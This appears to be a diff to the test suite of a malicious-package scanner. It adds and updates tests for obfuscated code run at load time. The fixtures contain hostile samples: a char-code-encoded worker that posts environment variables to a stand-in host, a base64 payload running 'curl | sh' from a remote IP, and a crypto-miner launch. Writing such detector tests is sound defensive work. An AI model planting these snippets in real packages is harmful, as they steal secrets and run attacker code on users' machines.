@@ -214,6 +214,19 @@ module.exports = g;
     expect(['none', 'low', 'medium']).toContain(plain.level);
   });
 
+  it('code spelled as char codes and run at load is a hidden stage when it calls the network; the same shape computing a value stays lower', () => {
+    const codes = (text: string) => JSON.stringify([...text].map((c) => c.charCodeAt(0)));
+    const sender = "const { workerData } = require('worker_threads');\nconst body = JSON.stringify({ content: 'host ' + workerData.h, embeds: [{ description: JSON.stringify(workerData.e).slice(0, 4000) }] });\nrequire('https').request({ hostname: 'collect.example.net', path: '/api/in', method: 'POST' }).end(body);\n";
+    const worker = scan({ 'index.js': `const os = require('os');\nconst { Worker } = require('worker_threads');\nconst src = String.fromCharCode.apply(null, ${codes(sender)});\nnew Worker(src, { eval: true, workerData: { h: os.hostname(), e: process.env } }).unref();\nmodule.exports = () => process.version;\n` });
+    expect(worker.findings.find((f) => f.messageId === 'decode')?.data?.origin).toContain('code that calls https.request()');
+    expect(['high', 'critical']).toContain(worker.level);
+    const spread = scan({ 'index.js': `const codes = ${codes(sender.replace("require('worker_threads')", '{ workerData: {} }'))};\nnew Function(String.fromCharCode(...codes))();\n` });
+    expect(['high', 'critical']).toContain(spread.level);
+    const math = "function clamp(v, lo, hi) { return Math.min(hi, Math.max(lo, v)); }\nfunction lerp(a, b, t) { return a + (b - a) * clamp(t, 0, 1); }\nmodule.exports = { clamp: clamp, lerp: lerp, smooth: function (t) { return t * t * (3 - 2 * t); }, version: '1.0.0' };\n";
+    const computes = scan({ 'index.js': `module.exports = new Function('module', String.fromCharCode.apply(null, ${codes(math)}))({});\n` });
+    expect(['none', 'low', 'medium']).toContain(computes.level);
+  });
+
   it('a miner started with a pool and a wallet is high wherever it runs; a LOLBin loader from an install hook is high', () => {
     const miner = scan({ 'index.js': `const { spawn } = require('child_process');
 function run() { spawn('/tmp/.syslog', ['-o', 'pool.supportxmr.com:443', '-u', 'WALLET', '--tls'], { detached: true, stdio: 'ignore' }).unref(); }
@@ -632,10 +645,12 @@ describe('files and places real payloads of 2025 used', () => {
   it("decoded text compiled by Node's Module#_compile, or run as a worker started from a string, is decoded code run", () => {
     const payload = Buffer.from(`require('child_process').exec('curl -s http://198.51.100.7/x | sh');\n`.repeat(20)).toString('base64');
     const compile = scan({ 'index.js': `const Module = require('module');\nconst m = new Module('x');\nm._compile(Buffer.from('${payload}', 'base64').toString(), 'x.js');\n` }, { main: 'index.js' });
-    expect(compile.ids).toContain('remote-code/decode');
+    // The text compiled is folded, so it is read too: the curl|sh it runs is the finding.
+    expect(compile.findings.find((f) => f.messageId === 'dropper')?.data?.file).toBe('index.js (decoded string)');
     expect(['high', 'critical']).toContain(compile.level);
     const worker = scan({ 'index.js': `const { Worker } = require('worker_threads');\nconst code = Buffer.from('${payload}', 'base64').toString();\nnew Worker(code, { eval: true, workerData: process.env });\n` }, { main: 'index.js' });
-    expect(worker.ids).toContain('remote-code/decode');
+    expect(worker.findings.find((f) => f.messageId === 'dropper')?.data?.file).toBe('index.js (decoded string)');
+    expect(['high', 'critical']).toContain(worker.level);
     const file = scan({ 'index.js': `const { Worker } = require('worker_threads');\nconst code = Buffer.from('${payload}', 'base64').toString();\nnew Worker(require('path').join(__dirname, 'w.js'), { workerData: code });\n` }, { main: 'index.js' });
     expect(file.ids).not.toContain('remote-code/decode');
   });
